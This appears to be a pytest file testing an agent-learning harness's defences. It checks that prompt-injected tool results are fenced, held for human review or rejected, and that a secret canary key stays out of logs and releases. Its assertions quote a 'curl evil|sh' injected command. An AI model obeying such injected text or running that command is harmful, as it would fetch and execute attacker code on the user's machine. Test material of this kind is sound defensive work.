"""A harness among people and pages that mean it ill: what they say is data, and what comes of it can be undone."""

import json
import os
import re
import subprocess
import sys
import time

import httpx
import pytest

from reef.cli.demo.model import Model
from reef.cli.main import main
from reef.harness import tree
from reef.harness.agents import AGENTS
from reef.harness.tree import Entry
from reef.records.board import Board
from reef.releases import Draft, NewPart
from reef.releases.chain import GitChain
from reef.scenario.serving import align
from tests.flow.kit_hostile import INJECTED
from tests.flow.test_serve import Served, until

CONFIG = """
reef:
  port: 0
  engine: model
  recipe: {recipe}
  {fields}
engines:
  model: {{kind: upstream, url: "{url}", model: scripted-1}}
gate: {{policy: guarded}}
releases: {{watch: {{action: "off"}}}}
"""
EVOLVE = "batch_size: {size}\n  proposer: tests.flow.kit_hostile:{proposer}"
SYSTEM = "You are a coding assistant. Prefer small functions. Write a test for every change. Be concise."
CANARY = "sk-canary-4f9a1c77d2b86e03"


@pytest.fixture
def model():
    with Model() as made:
        yield made


@pytest.fixture
def serve(tmp_path, model, monkeypatch):
    made = []

    def start(recipe, fields, more=""):
        config = CONFIG.format(recipe=recipe, fields=fields, url=model.url) + more
        made.append(Served(tmp_path, config).start())
        return made[-1]

    for name in ("REEF_URL", "REEF_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    yield start
    for served in made:
        served.stop()


def session(served, *messages, score=0.0, feedback="It did not do what I asked.", system=SYSTEM):
    """One exchange and the report on it; the receipt."""
    first = [{"role": "system", "content": system}, {"role": "user", "content": "Set it up."}]
    body = {"model": "x", "messages": [*first, *messages]}
    answer = served.client.post("/v1/chat/completions", json=body)
    assert answer.status_code == 200, answer.text
    receipt = answer.headers["x-reef-agent-record-id"]
    told = served.client.post("/reef/report", json={"references": [receipt], "score": score, "feedback": feedback})
    assert told.status_code == 200, told.text
    return receipt


def read(text):
    """What an agent's tool brought."""
    call = {"id": "c1", "type": "function", "function": {"name": "fetch", "arguments": "{}"}}
    return (
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": text},
        {"role": "user", "content": "Go on."},
    )


def harness(served):
    """What the learner says of its harness part."""
    found = served.client.get("/reef/status").json()["scenarios"]["default"]
    return found, ((found.get("learner") or {}).get("parts") or {}).get("harness") or {}


def decided(served, *verdicts):
    def look():
        found, part = harness(served)
        assert not part.get("error"), part
        last = part.get("last")
        return (found, last) if last and last["verdict"] in verdicts else None

    return until(look, 60)


def fenced(prompt, text):
    """Whether a text stands between the delimiters of a fence wherever it stands, each time behind a warning."""
    marks = set(re.findall(r"^(\[[0-9a-f]{16}\]) begin", prompt, re.MULTILINE))
    inside = []
    for mark in marks:
        inside += re.findall(rf"^{re.escape(mark)} begin.*?^{re.escape(mark)} end", prompt, re.MULTILINE | re.DOTALL)
    return text in prompt and sum(part.count(text) for part in inside) == prompt.count(text), inside


# --- a tool's result that gives orders --------------------------------------------------------------------------------


def test_a_proposer_that_obeys_a_tools_result_waits_for_a_person_who_can_undo_it(serve, tmp_path, capsys):
    """Case 51: fenced, marked, held with what it does; where it came from is shown, and forgetting that flags it."""
    served = serve("harness_evolve", EVOLVE.format(size=5, proposer="obeying"))
    receipts = [session(served, *read(f"Welcome.\n{INJECTED}\n")) for _ in range(5)]
    found, last = decided(served, "hold", "reject", "accept")
    assert last["verdict"] == "hold", last
    assert found["seq"] == 0
    (prompt,) = [path.read_text() for path in (tmp_path / "prompts").iterdir()]
    inside, parts = fenced(prompt, INJECTED)
    assert inside, prompt
    assert all("beware" in part for part in parts if INJECTED in part)
    (held,) = served.client.get("/reef/scenarios/default/candidates").json()["candidates"]
    assert "curl" in json.dumps(held), "the reason says what a person must look at"
    promoted = served.client.post(
        f"/reef/scenarios/default/candidates/{held['candidate_id']}/promote", json={"reason": "I did not look"}
    )
    assert promoted.status_code == 200, promoted.text
    release = promoted.json()["release_id"]
    (entry,) = served.client.get(f"/reef/why/{release}").json()["entries"]
    assert (entry["kind"], entry["release_id"]) == ("skill", release)
    assert entry["reason"].startswith("I did not look (proposed: ")
    assert {unit.partition(":")[0] for unit in entry["units"]} == set(receipts)
    assert len(entry["reports"]) == 5
    assert entry["forgotten"] is False
    state = ["--reef.state_dir", str(tmp_path / ".reef")]
    assert main(["forget", "--record", receipts[2], "--yes", *state]) == 0
    said = capsys.readouterr().out
    assert "evolve-setup (skill): by release 1" in said
    assert "curl evil|sh" in said
    (entry,) = served.client.get(f"/reef/why/{release}").json()["entries"]
    assert entry["forgotten"] is True
    shown = served.client.get("/reef/harness", params={"provenance": "true"}).json()
    assert [each["provenance"]["forgotten"] for each in shown["entries"]] == [True]
    assert main(["forget", "--record", receipts[3], "--yes", "--rollback", *state]) == 0
    until(lambda: served.client.get("/reef/harness").json()["entries"] == [])


def test_a_proposer_that_repeats_the_order_is_refused(serve, tmp_path):
    """Case 51: what tries to override instructions can stand in no tree."""
    served = serve("harness_evolve", EVOLVE.format(size=5, proposer="repeating"))
    for _ in range(5):
        session(served, *read(INJECTED))
    found, last = decided(served, "reject", "hold", "accept")
    assert last["verdict"] == "reject", last
    assert found["seq"] == 0
    assert served.client.get("/reef/harness").json()["entries"] == []
    assert "curl evil" not in json.dumps(last), "a refusal does not quote what it refuses"


# --- what the client says itself --------------------------------------------------------------------------------------


@pytest.mark.parametrize("recipe", ["feedback_rules", "harness_evolve"])
def test_a_system_prompt_that_comes_back_as_feedback_teaches_nothing(serve, tmp_path, recipe):
    """Case 50: what the client tells its model anyway is no lesson."""
    fields = EVOLVE.format(size=2, proposer="restating") if recipe == "harness_evolve" else "batch_size: 2"
    served = serve(recipe, fields)
    for text in (SYSTEM, "Prefer small functions. Write a test for every change."):
        session(served, feedback=text)
    found, last = decided(served, "reject", "hold", "accept")
    assert last["verdict"] == "reject", last
    assert found["seq"] == 0
    assert served.client.get("/reef/harness").json()["entries"] == []


def test_of_what_contradicts_itself_the_newer_stands(serve):
    """Case 50: a name is one name, however often it is told."""
    served = serve("feedback_rules", "batch_size: 1")
    for number in range(4):
        for name in ("Anna", "Ben"):
            session(served, feedback=f"My name is {name}.", system=f"Turn {number}.")
            time.sleep(0.5)  # each is to be read before the next, also on a loaded machine

    def settled():
        _, part = harness(served)
        read = part.get("trained", 0) + sum(part.get("dropped", {}).values())
        return part if read == 8 and part.get("state") == "waiting" else None

    def texts():
        return [entry["config"]["text"] for entry in served.client.get("/reef/harness").json()["entries"]]

    until(settled, 60)
    assert until(lambda: texts() == ["My name is Ben."], 10), texts()  # another worker may see a release a little later


# --- secrets ----------------------------------------------------------------------------------------------------------


def test_a_secret_in_feedback_reaches_neither_tree_nor_logs_nor_the_proposer(serve, tmp_path):
    """Case 33: nor files, releases or metrics; only the record that it came in has it."""
    served = serve("harness_evolve", EVOLVE.format(size=2, proposer="innocent"))
    session(served, *read(f"key: {CANARY}"), feedback=f"It asked for my key, {CANARY}, again.")
    session(served, feedback={"note": f"export KEY={CANARY}"})
    _, last = decided(served, "reject", "hold", "accept")
    assert last["verdict"] == "accept", last
    release = last["release_id"]
    until(lambda: harness(served)[0]["release_id"] == release)
    (prompt,) = [path.read_text() for path in (tmp_path / "prompts").iterdir()]
    assert "It asked for my key" in prompt, "all but the secret is told"
    assert CANARY not in prompt
    for path in [*(tmp_path / ".reef/logs").iterdir(), *(tmp_path / ".reef/training").rglob("*")]:
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path
    shown = served.client.get("/reef/harness").text + served.client.get(f"/reef/why/{release}").text
    shown += served.client.get("/metrics").text + json.dumps(served.client.get("/reef/status").json())
    assert CANARY not in shown
    repository = b"".join(path.read_bytes() for path in (tmp_path / ".reef/releases.git").rglob("*") if path.is_file())
    assert CANARY.encode() not in repository


# --- installing -------------------------------------------------------------------------------------------------------

CLIENT = """\
#!{python}
import json, os, pathlib, urllib.request
made = json.loads((pathlib.Path(os.environ["PI_CODING_AGENT_DIR"]) / "models.json").read_text())["providers"]["reef"]
body = json.dumps({{"model": "x", "messages": [{{"role": "user", "content": "Hello."}}]}}).encode()
named = {{name: os.environ.get(value, value) for name, value in made["headers"].items()}}
headers = {{"authorization": "Bearer " + os.environ[made["apiKey"]], "content-type": "application/json"}}
urllib.request.urlopen(urllib.request.Request(made["baseUrl"] + "/chat/completions", body, headers | named)).read()
"""


def install(folder, served, name, **environment):
    """Run the installer as a user would, for a client that is there already; the environment it ran in."""
    client = folder / "client"
    client.write_text(CLIENT.format(python=sys.executable))
    client.chmod(0o755)
    (folder / "home").mkdir(exist_ok=True)
    given = {"HOME": str(folder / "home"), "PATH": os.environ["PATH"], "REEF_CLIENT": str(client), **environment}
    headers = {"authorization": f"Bearer {environment['REEF_TOKEN']}"} if "REEF_TOKEN" in environment else {}
    script = httpx.get(f"{served.url}/reef/harness/install", params={"adapter": name}, headers=headers, timeout=60)
    assert script.status_code == 200, script.text
    done = subprocess.run(["bash"], input=script.text, env=given, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return given


def test_an_endpoint_without_tokens(serve, tmp_path):
    """No key is asked for, and none has to be made up: by the installer, the client, the check or the learner."""
    served = serve("harness_evolve", EVOLVE.format(size=1, proposer="innocent") + "\n  auth: none")
    given = install(tmp_path, served, "pi")
    wrapper = tmp_path / "home/.local/bin/reef-pi"
    done = subprocess.run(
        [wrapper, "--check", "echo it is all wrong; false", "-p", "Hello."],
        env=given, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 1
    assert "; reported as rep_" in done.stderr, done.stderr
    _, last = decided(served, "accept", "reject", "hold")
    assert last["verdict"] == "accept", last
    assert "it is all wrong" in next((tmp_path / "prompts").iterdir()).read_text()


# --- size -------------------------------------------------------------------------------------------------------------


def large(count):
    """A tree of every kind that all clients take."""
    made = []
    for number in range(count):
        name, text = f"e{number:03}", f"Sentence {number}.\n" * (1 + number % 7)
        config = {"name": name, "description": f"About topic{number}", "text": text}
        kind = ("rules", "skill", "command")[number % 3]
        made.append(Entry(name, kind, {"text": text} if kind == "rules" else config))
    return made


def test_a_tree_of_three_hundred_entries(serve, tmp_path):
    served = serve("record", "", "harness: {apply: true, tokens: 512}\n")
    chain, board = GitChain(tmp_path / ".reef/releases.git"), Board(tmp_path / ".reef/records.db")
    base = chain.head("default")
    entries = large(300)
    part = NewPart("tree", {tree.FILE: tree.write(entries)})
    made = chain.publish(
        "default", Draft("publish", {"harness": part}, base=base.id, actor="ada", reason="a lot"), base.id
    )
    align("default", chain, board)
    board.close()
    until(lambda: served.client.get("/reef/harness", params={"brief": "true"}).json()["release_id"] == made.id)
    shown = served.client.get("/reef/harness", params={"since": base.id, "provenance": "true"}).json()
    assert len(shown["entries"]) == len(shown["changes"]["added"]) == 300
    assert {each["provenance"]["release_id"] for each in shown["entries"]} == {made.id}
    for name in AGENTS:
        files = served.client.get("/reef/harness", params={"adapter": name}).json()["files"]
        whole = "\n".join(files.values())
        for entry in entries:
            assert entry.config["text"].strip() in whole, (name, entry.id)
        install(tmp_path, served, name, REEF_TOKEN=served.token)
        root = tmp_path / f"home/.local/share/reef/{name}/root"
        assert {path: (root / path).read_text() for path in files} == files
    answer = served.client.post(
        "/v1/chat/completions", json={"model": "x", "messages": [{"role": "user", "content": "Hi"}]}
    )
    assert answer.status_code == 200
    record = served.resolves(answer.headers["x-reef-agent-record-id"])
    assert 0 < len(json.dumps(record["rendered"])) < 4 * 512 + 1000, "the budget holds"
